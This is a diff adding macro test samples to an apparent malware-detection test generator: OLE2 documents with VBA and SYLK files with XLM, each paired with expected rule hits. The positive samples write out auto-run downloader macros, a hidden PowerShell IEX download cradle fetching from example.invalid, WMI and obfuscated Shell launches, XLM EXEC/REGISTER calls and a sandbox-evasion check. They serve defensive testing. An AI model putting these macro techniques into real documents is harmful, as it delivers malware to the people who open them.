@@ -359,6 +359,76 @@ def office_samples(s: Samples):
           {csv: False}, filetype="text")
 
 
+def _fixtures():
+    """tests/fixtures, for the OLE2 writer (VBA projects)."""
+    here = os.path.dirname(os.path.abspath(__file__))
+    sys.path.insert(0, os.path.join(os.path.dirname(here), "fixtures"))
+    import mkole
+    return mkole
+
+
+def macro_samples(s: Samples):
+    """Macro rules read derived nodes: VBA source inside an OLE2 document
+    (written by tests/fixtures/mkole.py) and XLM formulas of a SYLK file."""
+    mkole = _fixtures()
+
+    def doc(name, source, expects):
+        project = mkole.vba_project([("Module1", source)])
+        s.add(name, mkole.cfb({"WordDocument": b"placeholder", "Macros": project}),
+              expects, filetype="ole2")
+
+    down, wmi, obf, ps = ("VBA_Downloader", "VBA_WMI_Process_Create",
+                          "VBA_Obfuscated_Launcher", "VBA_PowerShell_Launch")
+    doc("vba_urlmon.doc",
+        'Private Declare Function URLDownloadToFileA Lib "urlmon" (ByVal a As Long) As Long\r\n'
+        'Sub AutoOpen()\r\n  URLDownloadToFileA 0, "http://example.invalid/a.exe", "a.exe", 0, 0\r\nEnd Sub\r\n',
+        {down: True, wmi: False, obf: False, ps: False})
+    doc("vba_xmlhttp_save.doc",
+        'Sub Document_Open()\r\n  Set h = CreateObject("MSXML2.XMLHTTP")\r\n'
+        '  h.Open "GET", "https://payload.example.invalid/x", False\r\n  h.Send\r\n'
+        '  Set s = CreateObject("ADODB.Stream")\r\n  s.SaveToFile "x.exe", 2\r\nEnd Sub\r\n',
+        {down: True})
+    doc("vba_xmlhttp_report.doc",
+        'Sub Refresh()\r\n  Set h = CreateObject("MSXML2.XMLHTTP")\r\n'
+        '  h.Open "GET", "https://intranet.example.invalid/rates.json", False\r\n  h.Send\r\n'
+        '  Range("A1").Value = h.responseText\r\nEnd Sub\r\n',
+        {down: False, wmi: False, obf: False, ps: False})
+    doc("vba_wmi_create.doc",
+        'Sub AutoOpen()\r\n  Set p = GetObject("winmgmts:root\\cimv2:Win32_Process")\r\n'
+        '  p.Create "cmd /c calc.exe", Null, Null, pid\r\nEnd Sub\r\n',
+        {wmi: True})
+    doc("vba_wmi_query.doc",
+        'Sub Inventory()\r\n  Set w = GetObject("winmgmts:")\r\n'
+        '  For Each d In w.InstancesOf("Win32_LogicalDisk")\r\n    Debug.Print d.Size\r\n  Next\r\nEnd Sub\r\n',
+        {wmi: False})
+    chrs = " & ".join("Chr(%d)" % c for c in b"cmd.exe /c calc.exe ok")
+    doc("vba_chr_shell.doc", 'Sub AutoOpen()\r\n  Shell ' + chrs + '\r\nEnd Sub\r\n', {obf: True})
+    doc("vba_strreverse.doc",
+        'Sub AutoOpen()\r\n  Set o = CreateObject(StrReverse("llehS.tpircSW"))\r\n'
+        '  o.Run StrReverse("exe.clac")\r\nEnd Sub\r\n', {obf: True})
+    doc("vba_chr_table.doc",
+        'Function Tab9()\r\n  Tab9 = Chr(9) & Chr(13) & Chr(10)\r\nEnd Function\r\n', {obf: False})
+    doc("vba_powershell_hidden.doc",
+        'Sub AutoOpen()\r\n  Shell "powershell -w hidden -nop -c IEX (New-Object Net.WebClient)'
+        '.DownloadString(\'http://example.invalid/p\')"\r\nEnd Sub\r\n', {ps: True})
+    doc("vba_powershell_comment.doc",
+        "Sub Notes()\r\n  ' see the powershell documentation for -nop\r\n  MsgBox \"done\"\r\nEnd Sub\r\n",
+        {ps: False})
+
+    xexec, xevade = "XLM_Exec_Or_Download", "XLM_Sandbox_Evasion"
+    sylk = lambda formulas: ("ID;PWXL;N;E\r\nO;L;E;D;V0\r\nNN;NAuto_open;ER1C1\r\n" + "".join(
+        "C;Y%d;X1;E%s\r\n" % (i + 1, f) for i, f in enumerate(formulas)) + "E\r\n").encode()
+    s.add("xlm_exec.slk", sylk(['EXEC("calc.exe")', "HALT()"]), {xexec: True, xevade: False},
+          filetype="text")
+    s.add("xlm_register.slk",
+          sylk(['REGISTER("urlmon","URLDownloadToFileA","JJCCJJ","dl")', "HALT()"]),
+          {xexec: True}, filetype="text")
+    s.add("xlm_evasion.slk", sylk(["IF(GET.WORKSPACE(19),,CLOSE(TRUE))", "WORKBOOK.HIDE()", "HALT()"]),
+          {xevade: True}, filetype="text")
+    s.add("xlm_alert.slk", sylk(['ALERT("hello")', "HALT()"]), {xexec: False, xevade: False},
+          filetype="text")
+
+
 def main(argv):
     if len(argv) != 2:
         print(f"usage: {argv[0]} OUTDIR", file=sys.stderr)
@@ -370,6 +440,7 @@ def main(argv):
     executable_samples(s)
     powershell_samples(s)
     office_samples(s)
+    macro_samples(s)
     s.write_manifest()
     nsamples = len({e["sample"] for e in s.manifest})
     print(f"wrote {nsamples} samples, {len(s.manifest)} manifest entries to {outdir}")
